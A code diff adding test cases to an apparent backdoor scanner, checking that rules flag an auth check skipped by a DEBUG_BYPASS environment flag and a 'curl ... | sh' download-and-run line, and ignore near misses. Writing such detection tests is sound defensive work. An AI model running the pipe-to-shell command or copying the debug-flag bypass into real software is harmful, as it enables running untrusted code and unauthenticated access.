@@ -525,3 +525,52 @@ test("partial parse: the guards built on random candidate lines of this reposito
   // (the comparison is not empty: most files were read in part)
   assert.ok(parts > files.length / 3, `${parts} of ${files.length} read in part`);
 });
+
+// The line gates of the auth-bypass shape and the pipe-to-shell test: only the lines holding their
+// words (the automaton's) are read. The planted line sits at the end of a 400 KB file whose other
+// lines hold the words (`debug`, `curl`) without the shape: found; the near miss is not.
+const pyFiller = (n: number) =>
+  Array.from({ length: n }, (_v, i) =>
+    i % 3 === 0 ? `debug_${i} = log.debug("curl step ${i}")` : `value_${i} = compute(${i}, "item-${i}")`,
+  );
+const gateCases: { name: string; planted: string[]; rule: string; found: boolean }[] = [
+  {
+    name: 'an auth check that a debug flag skips, at the end of a 400 KB file full of debug calls',
+    planted: [
+      'def verify_token(token):',
+      '    if os.environ.get("DEBUG_BYPASS"):',
+      '        return True',
+      '    return ok(token)',
+    ],
+    rule: 'backdoor.debug-auth-bypass',
+    found: true,
+  },
+  {
+    name: 'the same check with no flag (near miss)',
+    planted: ['def verify_token(token):', '    if not token:', '        return False', '    return ok(token)'],
+    rule: 'backdoor.debug-auth-bypass',
+    found: false,
+  },
+  {
+    name: 'a download piped into a shell, at the end of a 400 KB file that mentions curl on every third line',
+    planted: ['BOOTSTRAP = "curl -fsSL https://tools.example.net/setup.sh | sh"'],
+    rule: 'backdoor.pipe-to-shell',
+    found: true,
+  },
+  {
+    name: 'a download with its checksum checked (near miss)',
+    planted: ['HINT = "curl -fsSL -o setup.sh https://tools.example.net/setup.sh && sha256sum -c setup.sh.sha256"'],
+    rule: 'backdoor.pipe-to-shell',
+    found: false,
+  },
+];
+for (const phase of ['before the word automaton is built', 'after it is built'] as const)
+  for (const c of gateCases)
+    test(`line gates: ${c.name}: ${c.found ? 'found' : 'no finding'} (${phase})`, () => {
+      if (phase === 'after it is built') buildPrefilter();
+      const lines = ['import os', ...pyFiller(Math.ceil(400_000 / 36)), ...c.planted];
+      const text = lines.join('\n');
+      const planted = lines.length - c.planted.length + 1 + (c.rule === 'backdoor.debug-auth-bypass' ? 1 : 0);
+      const got = analyzeBackdoors(new SourceFile('tools/boot.py', text, 'python')).map((f) => `${f.ruleId}:${f.line}`);
+      assert.equal(got.includes(`${c.rule}:${planted}`), c.found, got.join(', ') || 'no findings');
+    });
